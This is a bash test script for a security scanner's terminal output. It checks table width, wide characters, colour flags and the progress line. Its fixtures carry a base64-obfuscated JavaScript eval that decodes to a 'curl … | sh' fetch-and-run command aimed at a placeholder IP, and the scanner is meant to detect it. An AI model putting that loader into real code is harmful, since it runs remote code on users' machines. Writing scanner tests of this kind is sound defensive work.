#!/bin/bash
# The table on terminals of 80 and of 200 columns: lines fit, wide letters are counted, colours are there when they
# should be, the progress line goes away.
. "$PICKET_SRC/tests/cli/scanner.bash"
unset PICKET_CORPUS_DIR NO_COLOR CLICOLOR_FORCE # the built-in corpus
command -v tmux >/dev/null || { echo "tmux is needed: tools/install-packages test"; exit 1; }
term() { tmux -L "picket-$$" -f /dev/null "$@"; }
trap 'term kill-server 2>/dev/null || true; rm -rf "$work"' EXIT
export LC_ALL=C.UTF-8
# A server ends with its last session, and one that is just ending takes no new session: this one lasts the whole test.
term new-session -d -s keeper cat

on() { # on COLUMNS COMMAND: runs it on a terminal of that width; screen, joined and coloured hold what is there
	term -u new-session -d -s t -x "$1" -y 300 "sh -c '$2; echo the-end; sleep 20'" \; set -g history-limit 5000 \
		\; pipe-pane -t t "cat >$work/raw"
	for _ in $(seq 1200); do
		term capture-pane -p -S - -t t >screen
		grep -q the-end screen && break
		sleep 0.05
	done
	term capture-pane -p -J -S - -t t | sed 's/ *$//' >joined
	term capture-pane -p -e -S - -t t >coloured
	sed -i 's/ *$//' screen
	term kill-session -t t
}
whole() { cmp screen joined && grep -q '^scan ' screen; } # no line went on in the next one

mkdir -p app/src/$'\xe6\xbc\xa2\xe5\xad\x97\xe3\x83\x86\xe3\x82\xb9\xe3\x83\x88\xe6\xbc\xa2\xe5\xad\x97\xe3\x83\x86\xe3\x82\xb9\xe3\x83\x88\xe6\xbc\xa2\xe5\xad\x97\xe3\x83\x86'/$'\xf0\x9f\x8e\x89\xf0\x9f\x9a\x80\xf0\x9f\x8e\x89\xf0\x9f\x9a\x80\xf0\x9f\x8e\x89\xf0\x9f\x9a\x80\xf0\x9f\x8e\x89\xf0\x9f\x9a\x80'
cp -r "$PICKET_SRC"/examples/incident/. app/
for d in app/src/*/*; do
	printf 'eval(Buffer.from("cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgaHR0cDovLzIwMy4wLjExMy45L3ggfCBzaCcp", "base64").toString()); // %s\n' \
		$'\xe6\xbc\xa2\xe5\xad\x97\xf0\x9f\x8e\x89\xe6\xbc\xa2\xe5\xad\x97\xf0\x9f\x8e\x89\xe6\xbc\xa2\xe5\xad\x97\xf0\x9f\x8e\x89\xe6\xbc\xa2\xe5\xad\x97\xf0\x9f\x8e\x89' >"$d/a.js"
done
scanner="$PICKET_BIN/scanner"
for columns in 80 200; do
	on $columns "$scanner scan --show info app"
	say "$columns columns: no line is longer than the terminal" whole
	say "$columns columns: wide letters are there" grep -q $'\xe6\xbc\xa2' screen
	say "$columns columns: colours are there" grep -q $'\x1b\[31m' coloured
	on $columns "$scanner scan --show info --verbose app 2>/dev/null"
	say "$columns columns, verbose: no line is longer" whole
done
on 80 "$scanner scan $PICKET_SRC/examples/incident"
say "the example attack takes less than 80 lines" test "$(grep -n the-end screen | cut -d: -f1)" -lt 80
on 80 "NO_COLOR=1 $scanner scan app"
say "NO_COLOR takes the colours away" not grep -q $'\x1b\[3' coloured
on 80 "$scanner scan --color never app"
say "--color never does too" not grep -q $'\x1b\[3' coloured
on 80 "$scanner scan --color always app | cat"
say "--color always keeps them in a pipe" grep -q $'\x1b\[31m' coloured
on 80 "$scanner scan app | cat"
say "a pipe has none" not grep -q $'\x1b\[3' coloured
on 80 "CLICOLOR_FORCE=1 $scanner scan app | cat"
say "but with CLICOLOR_FORCE" grep -q $'\x1b\[31m' coloured

# The progress line comes after a second. The scan is held for that long, once it is in its sandbox; a hole of a
# gigabyte, hashed like any file, keeps it there until it is.
mkdir many
truncate -s 1G many/hole.bin
cat >hold.sh <<'END'
"$1" scan many &
parent=$!
for n in $(seq 2000); do
	child=$(cat /proc/$parent/task/$parent/children 2>/dev/null | cut -d' ' -f1)
	[ -n "$child" ] && grep -q '^Seccomp:.2' "/proc/$child/status" 2>/dev/null && break
done
sleep 0.02
kill -STOP $child && sleep 1.3 && kill -CONT $child
wait $parent
END
for _ in 1 2 3; do # the scan may be over before it is held
	on 80 "bash hold.sh $scanner 2>&1"
	! grep -q 'files, .* MB read' raw || break
done
say "a scan of more than a second shows how far it is" grep -q 'files, .* MB read' raw
say "and that line is gone in the end" not grep -q 'MB read' screen
say "with the report in its place" grep -q '^scan ' screen
